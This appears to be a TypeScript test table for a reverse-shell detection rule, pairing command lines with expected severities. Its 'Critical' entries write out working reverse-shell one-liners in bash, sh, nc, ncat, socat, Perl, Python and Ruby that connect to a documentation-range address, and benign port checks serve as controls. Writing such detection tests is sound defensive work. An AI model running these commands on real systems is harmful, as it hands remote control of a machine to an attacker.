import { ruleTable } from "../../../testing/rule-table.ts";

ruleTable("reverse-shell", {
  steps: [
    ["da1-02", "Critical"],
    ["da2-03", "Critical"],
    ["da2-12", "Critical"],
    ["da3-04", "Critical"],
    ["da3-11", "Critical"],
  ],
  passes: [
    ["nc", "-z"],
    ["python", "-m http.server"],
    ["bash", "-lc"],
    ["python", "-c"],
    ["kubectl", "exec -n web"],
    ["sh", "-c"],
  ],
  commands: [
    ["/bin/bash", '-c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"', "Critical"],
    ["/bin/sh", '-c "sh -i 5<> /dev/udp/203.0.113.66/53 0<&5"', "Critical"],
    ["/usr/bin/nc", "203.0.113.66 4444 -e /bin/sh", "Critical"],
    ["/usr/bin/ncat", "--sh-exec bash 203.0.113.66 4444", "Critical"],
    ["/usr/bin/nc", "-lvnp 4444 -c bash", "Critical"],
    ["/usr/bin/socat", "TCP:203.0.113.66:4444 EXEC:bash,pty", "Critical"],
    ["/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:web:80", "none"],
    ["/bin/sh", '-c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.66 9 >/tmp/f"', "Critical"],
    [
      "/usr/bin/perl",
      '-e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");\'',
      "Critical",
    ],
    [
      "/usr/bin/python3",
      '-c "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\\"sh\\")"',
      "Critical",
    ],
    [
      "/usr/bin/ruby",
      "-rsocket -e 'exit if fork;c=TCPSocket.new(\"h\",4);while(cmd=c.gets);IO.popen(cmd){|i|c.print i.read}end'",
      "Critical",
    ],
    ["/usr/bin/python3", '-c "import socket;print(socket.gethostname())"', "none"],
    ["/usr/bin/nc", "-z 127.0.0.1 8000", "none"],
    ["/usr/bin/nc", "-vz -w 3 db 5432", "none"],
    ["/usr/bin/cat", "/dev/tcp/notes.txt", "none"],
  ],
});
